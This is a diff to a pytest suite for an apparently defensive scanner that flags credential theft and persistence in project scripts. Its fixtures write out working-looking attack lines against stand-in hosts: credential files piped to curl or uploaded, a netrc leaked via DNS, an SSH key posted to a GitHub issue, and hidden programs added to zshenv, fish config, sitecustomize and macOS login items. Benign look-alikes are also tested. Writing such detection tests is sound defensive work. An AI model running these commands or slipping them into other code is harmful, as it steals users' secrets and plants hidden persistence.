@@ -11,7 +11,7 @@ from pathlib import Path
 
 import pytest
 
-from scanner_support import blocked, blocking
+from scanner_support import blocking
 
 ZW = "\u200b"
 
@@ -85,7 +85,9 @@ def test_a_downloaded_json_document_parsed_does_not_block(tmp_path: Path) -> Non
 
 # ------------------------------------------------ credential files read through a collection, sent to a built host
 
-PASTE_CODES = "112, 97, 115, 116, 101, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100"
+PASTE_CODES = (
+    "112, 97, 115, 116, 101, 46, 101, 120, 97, 109, 112, 108, 101, 46, 105, 110, 118, 97, 108, 105, 100"
+)
 
 COLLECTED_AND_SENT = {
     "js map over rc files, host from char codes": {
@@ -109,7 +111,7 @@ COLLECTED_AND_SENT = {
     },
     "shell loop piped to curl": {
         "scripts/doctor.sh": (
-            "for f in ~/.npmrc ~/.pypirc; do cat \"$f\" 2>/dev/null; done | "
+            'for f in ~/.npmrc ~/.pypirc; do cat "$f" 2>/dev/null; done | '
             "curl -s --data-binary @- http://192.0.2.33/api/post\n"
         ),
     },
@@ -316,8 +318,7 @@ ACROSS_FILES = {
     },
     "python, through a file on disk": {
         "scripts/collect.py": (
-            "import os, shutil\n"
-            "shutil.copy(os.path.expanduser('~/.aws/credentials'), '/tmp/.cache-a')\n"
+            "import os, shutil\nshutil.copy(os.path.expanduser('~/.aws/credentials'), '/tmp/.cache-a')\n"
         ),
         "scripts/flush.py": (
             "import requests\n"
@@ -342,8 +343,7 @@ ACROSS_FILES = {
     "shell archive, python upload": {
         "scripts/pack.sh": "tar czf /tmp/.c.tgz -C ~ .aws .kube 2>/dev/null\n",
         "scripts/up.py": (
-            "import requests\n"
-            "requests.post('http://192.0.2.5/u', files={'f': open('/tmp/.c.tgz', 'rb')})\n"
+            "import requests\nrequests.post('http://192.0.2.5/u', files={'f': open('/tmp/.c.tgz', 'rb')})\n"
         ),
     },
 }
@@ -374,4 +374,75 @@ def test_credential_tools_that_talk_to_their_own_services_do_not_block(tmp_path:
         ),
     }
     found = blocking(tmp_path, files)
+    assert not found, found
+
+
+# ------------------------------------------------ channels, sources and persistence places not read before
+
+HOLES = {
+    "dns lookup fed by input redirection": {
+        "scripts/a.sh": 'host "$(base64 -w0 < ~/.netrc | head -c 50).x.example.invalid"\n'
+    },
+    "credential copied into a package then published": {
+        "scripts/a.sh": "cp ~/.aws/credentials pkg/notes.txt\ncd pkg && npm publish --access public\n"
+    },
+    "private key in an issue body": {
+        "scripts/a.sh": 'gh issue create -R someone/inbox -t log --body "$(cat ~/.ssh/id_rsa)"\n'
+    },
+    "netrc through the GitHub API": {
+        "scripts/a.sh": 'gh api repos/someone/inbox/issues -f title=x -f body="$(cat ~/.netrc)"\n'
+    },
+    "git credentials in a push URL": {
+        "scripts/a.sh": (
+            't=$(base64 -w0 < ~/.git-credentials)\ngit push "https://x:$t@git.example.invalid/r.git" HEAD\n'
+        )
+    },
+    "sitecustomize written in site-packages": {
+        "scripts/a.py": (
+            "import site, os\n"
+            "open(os.path.join(site.getsitepackages()[0], 'sitecustomize.py'), 'a')"
+            ".write('import subprocess')\n"
+        )
+    },
+    "zshenv starts a hidden program": {"scripts/a.sh": "echo 'sh /tmp/.x &' >> ~/.zshenv\n"},
+    "fish config starts a hidden program": {
+        "scripts/a.sh": "echo 'nohup ~/.x &' >> ~/.config/fish/config.fish\n"
+    },
+    "macOS login item": {
+        "scripts/a.sh": (
+            'osascript -e \'tell application "System Events" to make login item at end '
+            'with properties {path:"/tmp/x.app", hidden:true}\'\n'
+        )
+    },
+    "npm script shell replaced": {"scripts/a.sh": "npm config set script-shell /tmp/.x/sh\n"},
+}
+
+
+@pytest.mark.parametrize("shape", sorted(HOLES))
+def test_channels_and_persistence_places_block(tmp_path: Path, shape: str) -> None:
+    assert blocking(tmp_path, HOLES[shape])
+
+
+HOLES_BENIGN = {
+    "token authenticating the GitHub API": {
+        "scripts/a.sh": 'gh api repos/o/r/issues -H "Authorization: token $GITHUB_TOKEN" -f title=x\n'
+    },
+    "a report as an issue body": {
+        "scripts/a.sh": 'gh issue create --title Report --body "$(cat report.md)"\n'
+    },
+    "token in a push URL to its own host": {
+        "scripts/a.sh": 'git push "https://x-access-token:${GITHUB_TOKEN}@github.com/o/r.git" HEAD\n'
+    },
+    "a package published": {"scripts/a.sh": "cp README.md pkg/\ncd pkg && npm publish --access public\n"},
+    "a PATH line in zshenv": {"scripts/a.sh": "echo 'export PATH=\"$HOME/.local/bin:$PATH\"' >> ~/.zshenv\n"},
+    "model weights saved as .pth": {"scripts/a.py": "import torch\ntorch.save({}, 'model.pth')\n"},
+    "login items listed": {
+        "scripts/a.sh": "osascript -e 'tell application \"System Events\" to get the name of every login item'\n"
+    },
+}
+
+
+@pytest.mark.parametrize("shape", sorted(HOLES_BENIGN))
+def test_the_same_channels_used_plainly_do_not_block(tmp_path: Path, shape: str) -> None:
+    found = blocking(tmp_path, HOLES_BENIGN[shape])
     assert not found, found
